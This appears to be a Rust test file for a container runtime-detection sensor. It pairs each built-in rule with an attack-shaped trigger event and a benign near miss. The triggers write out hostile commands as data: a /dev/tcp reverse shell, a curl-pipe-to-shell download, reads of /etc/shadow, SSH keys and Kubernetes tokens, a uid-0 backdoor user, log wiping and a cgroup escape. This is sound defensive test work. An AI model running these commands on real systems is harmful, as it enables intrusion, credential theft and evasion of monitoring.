//! Every built-in runtime detection fires on an attack-shaped event and stays quiet on a
//! benign near miss. The events are the sensor's own (`event::Event`), built by hand
//! with the process cache they would be judged against, so every rule is covered here,
//! root or not; tests/container.rs does the behaviours it can for real.

mod common;

use common::*;
use std::borrow::Cow;
use std::collections::BTreeSet;
use std::path::Path;
use vigil_sensor::detect;
use vigil_sensor::event::Syscall;

/// `(rule id, trigger, near miss)` for every built-in rule.
fn cases() -> Vec<(&'static str, Case, Case)> {
    let sh = |args: &[&'static str]| p("sh", "/bin/sh", args);
    vec![
        (
            "RUNTIME-shell-in-container",
            exec(sh(&["sh"])),
            exec(sh(&["sh"]).host()),
        ),
        (
            "RUNTIME-reverse-shell",
            exec(p(
                "bash",
                "/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
            )),
            exec(p("bash", "/bin/bash", &["bash", "-c", "ls /dev/"])),
        ),
        (
            "RUNTIME-fileless-memfd-exec",
            exec(P {
                fileless: true,
                ..p("x", "/memfd:x (deleted)", &["x"])
            }),
            exec(p("ls", "/bin/ls", &["ls"])),
        ),
        (
            "RUNTIME-exec-from-temp",
            exec(p("kdevtmpfsi", "/tmp/kdevtmpfsi", &["/tmp/kdevtmpfsi"])),
            exec(p(
                "tmpreaper",
                "/usr/sbin/tmpreaper",
                &["tmpreaper", "/tmp/"],
            )),
        ),
        (
            "RUNTIME-container-drift",
            exec(P {
                changed_before: 5,
                ..p("payload", "/usr/local/bin/payload", &["payload"])
            }),
            exec(p("nginx", "/usr/sbin/nginx", &["nginx", "-s", "reload"])),
        ),
        (
            "RUNTIME-download-then-run",
            exec(sh(&[
                "sh",
                "-c",
                "curl -fsSL http://198.51.100.9/i.sh | sh",
            ])),
            exec(sh(&["sh", "-c", "curl -fsS http://localhost/healthz"])),
        ),
        (
            "RUNTIME-nohup-from-temp",
            exec(p("nohup", "/usr/bin/nohup", &["nohup", "/tmp/.x/run"])),
            exec(p(
                "nohup",
                "/usr/bin/nohup",
                &["nohup", "/usr/bin/python3", "app.py"],
            )),
        ),
        (
            "RUNTIME-package-manager-in-container",
            exec(p(
                "apt-get",
                "/usr/bin/apt-get",
                &["apt-get", "install", "-y", "nmap"],
            )),
            exec(p("apt-get", "/usr/bin/apt-get", &["apt-get", "update"]).host()),
        ),
        (
            "RUNTIME-network-tool-in-container",
            exec(p("nmap", "/usr/bin/nmap", &["nmap", "10.0.0.0/24"])),
            exec(p("nmap", "/usr/bin/nmap", &["nmap", "10.0.0.0/24"]).host()),
        ),
        (
            "RUNTIME-crypto-miner-process",
            exec(p(
                "python3",
                "/usr/bin/python3",
                &["python3", "m.py", "-o", "stratum+tcp://pool.example:3333"],
            )),
            exec(p("python3", "/usr/bin/python3", &["python3", "app.py"])),
        ),
        (
            "RUNTIME-stratum-port",
            connect(p("x", "/usr/bin/x", &["x"]), "198.51.100.7", 3333),
            connect(p("x", "/usr/bin/x", &["x"]), "198.51.100.7", 443),
        ),
        (
            "RUNTIME-read-sensitive-file",
            open(
                p("cat", "/bin/cat", &["cat", "/etc/shadow"]),
                "/etc/shadow",
                0,
            ),
            open(
                p("unix_chkpwd", "/usr/sbin/unix_chkpwd", &["unix_chkpwd"]).host(),
                "/etc/shadow",
                0,
            ),
        ),
        (
            "RUNTIME-sudoers-write",
            open(sh(&["sh"]), "/etc/sudoers.d/90-x", O_WRONLY | O_CREAT),
            open(
                p("sudo", "/usr/bin/sudo", &["sudo", "id"]),
                "/etc/sudoers",
                0,
            ),
        ),
        (
            "RUNTIME-ssh-key-access",
            open(
                p("cat", "/bin/cat", &["cat", "/root/.ssh/id_rsa"]),
                "/root/.ssh/id_rsa",
                0,
            ),
            open(
                p("sshd", "/usr/sbin/sshd", &["sshd"]).host(),
                "/root/.ssh/authorized_keys",
                0,
            ),
        ),
        (
            "RUNTIME-kubelet-credentials",
            open(
                p("cat", "/bin/cat", &["cat"]),
                "/var/lib/kubelet/kubeconfig",
                0,
            ),
            open(
                p("kubelet", "/usr/bin/kubelet", &["kubelet"]).host(),
                "/var/lib/kubelet/kubeconfig",
                0,
            ),
        ),
        (
            "RUNTIME-service-account-token",
            open(
                p("cat", "/bin/cat", &["cat"]),
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                O_CLOEXEC,
            ),
            open(
                p("cat", "/bin/cat", &["cat"]),
                "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
                O_CLOEXEC,
            ),
        ),
        (
            "RUNTIME-ld-preload-write",
            open(sh(&["sh"]), "/etc/ld.so.preload", O_WRONLY | O_CREAT),
            open(sh(&["sh"]), "/etc/ld.so.preload", O_CLOEXEC),
        ),
        (
            "RUNTIME-cloud-metadata",
            connect(p("curl", "/usr/bin/curl", &["curl"]), "169.254.169.254", 80),
            connect(
                p("curl", "/usr/bin/curl", &["curl"]).host(),
                "169.254.169.254",
                80,
            ),
        ),
        (
            "RUNTIME-k8s-api-from-container",
            connect(
                p("python3", "/usr/bin/python3", &["python3"]),
                "10.96.0.1",
                443,
            ),
            connect(
                p("kubectl", "/usr/bin/kubectl", &["kubectl"]),
                "10.96.0.1",
                443,
            ),
        ),
        (
            "RUNTIME-namespace-change",
            syscall(
                p("unshare", "/usr/bin/unshare", &["unshare", "-U"]),
                "unshare",
                Syscall::Unshare { flags: 0x1000_0000 },
            ),
            syscall(
                p("x", "/usr/bin/x", &["x"]),
                "unshare",
                Syscall::Unshare { flags: 0x200 },
            ),
        ),
        (
            "RUNTIME-kernel-module-load",
            syscall(
                p("insmod", "/sbin/insmod", &["insmod", "x.ko"]).host(),
                "finit_module",
                Syscall::FinitModule {
                    fd: 3,
                    params: Cow::Borrowed(""),
                    flags: 0,
                },
            ),
            syscall(
                p("modprobe", "/sbin/modprobe", &["modprobe", "overlay"]).host(),
                "finit_module",
                Syscall::FinitModule {
                    fd: 3,
                    params: Cow::Borrowed(""),
                    flags: 0,
                },
            ),
        ),
        (
            "RUNTIME-ptrace-attach",
            syscall(
                p("python3", "/usr/bin/python3", &["python3"]),
                "ptrace",
                Syscall::Ptrace {
                    request: 16,
                    target_pid: 200,
                },
            ),
            syscall(
                p("python3", "/usr/bin/python3", &["python3"]),
                "ptrace",
                Syscall::Ptrace {
                    request: 0,
                    target_pid: 0,
                },
            ),
        ),
        (
            "RUNTIME-bpf-in-container",
            syscall(
                p("loader", "/usr/bin/loader", &["loader"]),
                "bpf",
                Syscall::Bpf { cmd: 5 },
            ),
            syscall(
                p("loader", "/usr/bin/loader", &["loader"]).host(),
                "bpf",
                Syscall::Bpf { cmd: 5 },
            ),
        ),
        (
            "RUNTIME-mount-in-container",
            syscall(
                sh(&["sh"]),
                "mount",
                Syscall::Mount {
                    target: Cow::Borrowed("/mnt"),
                    source: Cow::Borrowed("/dev/vda1"),
                    fstype: Cow::Borrowed("ext4"),
                    flags: 0,
                },
            ),
            syscall(
                sh(&["sh"]).host(),
                "mount",
                Syscall::Mount {
                    target: Cow::Borrowed("/mnt"),
                    source: Cow::Borrowed("/dev/vda1"),
                    fstype: Cow::Borrowed("ext4"),
                    flags: 0,
                },
            ),
        ),
        (
            "RUNTIME-setuid-root",
            syscall(
                p("exploit", "/usr/bin/exploit", &["exploit"]).uid(1000),
                "setuid",
                Syscall::Setuid { uid: 0 },
            ),
            syscall(
                p("nginx", "/usr/sbin/nginx", &["nginx"]),
                "setuid",
                Syscall::Setuid { uid: 0 },
            ),
        ),
        (
            "RUNTIME-packet-socket",
            syscall(
                p("x", "/usr/bin/x", &["x"]),
                "socket",
                Syscall::Socket {
                    domain: 17,
                    sock_type: 3,
                    protocol: 0x300,
                },
            ),
            syscall(
                p("udhcpc", "/sbin/udhcpc", &["udhcpc"]),
                "socket",
                Syscall::Socket {
                    domain: 17,
                    sock_type: 2,
                    protocol: 0x300,
                },
            ),
        ),
        (
            "RUNTIME-raw-socket",
            syscall(
                p("python3", "/usr/bin/python3", &["python3", "syn.py"]),
                "socket",
                Syscall::Socket {
                    domain: 2,
                    sock_type: 3 | 0o2000000,
                    protocol: 6,
                },
            ),
            syscall(
                p("ping", "/bin/ping", &["ping", "10.0.0.1"]),
                "socket",
                Syscall::Socket {
                    domain: 2,
                    sock_type: 3,
                    protocol: 1,
                },
            ),
        ),
        (
            "RUNTIME-ssh-server-in-container",
            listen(p("x", "/usr/bin/x", &["x"]), 22),
            listen(p("x", "/usr/bin/x", &["x"]), 2222),
        ),
        (
            "RUNTIME-user-management-in-container",
            exec(p(
                "useradd",
                "/usr/sbin/useradd",
                &["useradd", "-o", "-u", "0", "backdoor"],
            )),
            exec(p("id", "/usr/bin/id", &["id", "-u"])),
        ),
        (
            "RUNTIME-clear-logs-or-history",
            exec(p(
                "rm",
                "/bin/rm",
                &["rm", "-f", "/root/.bash_history", "/var/log/auth.log"],
            )),
            exec(p("rm", "/bin/rm", &["rm", "-f", "/tmp/build.log"])),
        ),
        (
            "RUNTIME-timestamp-tampering",
            exec(p(
                "touch",
                "/bin/touch",
                &["touch", "-r", "/bin/ls", "/usr/local/bin/x"],
            )),
            exec(p("touch", "/bin/touch", &["touch", "/tmp/ready"])),
        ),
        (
            "RUNTIME-kill-security-process",
            exec(p("pkill", "/usr/bin/pkill", &["pkill", "-9", "vigil"]).host()),
            exec(p("pkill", "/usr/bin/pkill", &["pkill", "nginx"]).host()),
        ),
        (
            "RUNTIME-debugfs-in-container",
            exec(p("debugfs", "/sbin/debugfs", &["debugfs", "/dev/vda1"])),
            exec(p("debugfs", "/sbin/debugfs", &["debugfs", "/dev/vda1"]).host()),
        ),
        (
            "RUNTIME-release-agent",
            exec(sh(&[
                "sh",
                "-c",
                "echo /cmd > /tmp/cgrp/release_agent && echo 1 > /tmp/cgrp/x/notify_on_release",
            ])),
            exec(sh(&["sh", "-c", "cat /proc/self/cgroup"])),
        ),
    ]
}

#[test]
fn every_builtin_fires_on_its_trigger_and_not_on_its_near_miss() {
    let engine = engine();
    let mut covered = BTreeSet::new();
    for (id, trigger, near_miss) in cases() {
        let fired = judge(&engine, &trigger);
        assert!(
            ids(&fired).contains(&id),
            "{id}: trigger raised {:?}",
            ids(&fired)
        );
        let quiet = judge(&engine, &near_miss);
        assert!(
            !ids(&quiet).contains(&id),
            "{id}: near miss raised {:?}",
            ids(&quiet)
        );
        covered.insert(id);
    }
    // Every built-in rule has its case.
    let mut set = vigil_detect::rules::RuleSet::default();
    set.load(detect::BUILTIN_RUNTIME_RULES, Path::new("runtime.yaml"))
        .unwrap();
    let builtin: BTreeSet<&str> = set.rules.iter().map(|r| r.id.as_str()).collect();
    let missing: Vec<_> = builtin.difference(&covered).collect();
    assert!(missing.is_empty(), "rules without a case: {missing:?}");
    assert_eq!(engine.len(), builtin.len());
}

#[test]
fn alerts_carry_container_process_tree_mitre_and_evidence() {
    let engine = engine();
    let case = exec(p("sh", "/bin/sh", &["sh", "-c", "id"]));
    let alerts = judge(&engine, &case);
    let a = alerts
        .iter()
        .find(|a| a.rule_id == "RUNTIME-shell-in-container")
        .unwrap();
    assert_eq!(a.mitre_tactic.as_deref(), Some("Execution"));
    assert_eq!(a.mitre_technique.as_deref(), Some("T1059.004"));
    assert_eq!(a.time.as_deref(), Some("2026-11-18T12:00:00.000000001Z"));
    assert!(
        a.output.starts_with("Shell started in a container (proc=sh exe=/bin/sh cmdline=sh -c id parent=nginx user=root container=4f2a9c1be0d3 image=<NA> pod=<NA>/<NA>)"),
        "{}",
        a.output
    );
    let r = a.runtime.as_ref().unwrap();
    assert_eq!(r.container_id, CID);
    assert_eq!(r.node, "node-1");
    let tree: Vec<(u32, &str, &str)> = r
        .processes
        .iter()
        .map(|p| (p.pid, p.name.as_str(), p.cmdline.as_str()))
        .collect();
    assert_eq!(
        tree,
        [
            (300, "sh", "sh -c id"),
            (200, "nginx", "nginx -g daemon off;"),
            (1, "systemd", "init")
        ]
    );
    assert_eq!(a.evidence.len(), 1);
    assert_eq!(a.evidence[0]["kind"], "exec");
    assert_eq!(a.evidence[0]["exec"]["args"][2], "id");
    assert_eq!(a.dedup_key.len(), 32);
    // The same shell again folds into the same key; another command does not.
    let again = judge(&engine, &case);
    assert_eq!(again[0].dedup_key, a.dedup_key);
}

#[test]
fn user_rules_add_to_and_disable_builtins() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("mine.yaml");
    std::fs::write(
        &path,
        r#"
- rule: Terminal shell in container
  enabled: false
- list: miner_ports
  items: [443]
  append: true
- rule: Python in container
  desc: python ran
  condition: spawned_process and container and proc.name startswith python and proc.aname[1] = nginx and proc.aname = systemd
  output: python (%proc.cmdline) under %proc.aname[1] pid %proc.apid[1]
  priority: INFO
"#,
    )
    .unwrap();
    let engine = detect::engine(true, &[&path]).unwrap();
    let shell = judge(&engine, &exec(p("sh", "/bin/sh", &["sh"])));
    assert!(!ids(&shell).contains(&"RUNTIME-shell-in-container"));
    let py = judge(
        &engine,
        &exec(p("python3", "/usr/bin/python3", &["python3", "a.py"])),
    );
    let a = py
        .iter()
        .find(|a| a.rule_id == "Python in container")
        .unwrap();
    assert_eq!(a.output, "python (python3 a.py) under nginx pid 200");
    let https = judge(&engine, &connect(p("x", "/x", &["x"]), "198.51.100.7", 443));
    assert!(ids(&https).contains(&"RUNTIME-stratum-port"));
    // Only the user's rules.
    let alone = dir.path().join("alone.yaml");
    std::fs::write(
        &alone,
        "- rule: R\n  desc: d\n  condition: evt.type = execve and proc.name = sh\n  output: o\n  priority: INFO\n",
    )
    .unwrap();
    let only = detect::engine(false, &[&alone]).unwrap();
    assert_eq!(only.len(), 1);
    assert_eq!(
        ids(&judge(&only, &exec(p("sh", "/bin/sh", &["sh"])))),
        ["R"]
    );
    // A rule naming a field the table lacks fails at load with its place.
    std::fs::write(
        &path,
        "- rule: R\n  desc: d\n  condition: proc.nope = x\n  output: o\n  priority: INFO\n",
    )
    .unwrap();
    let err = detect::engine(false, &[&path]).unwrap_err().to_string();
    assert!(
        err.contains("mine.yaml:3:") && err.contains("unknown runtime field proc.nope"),
        "{err}"
    );
}
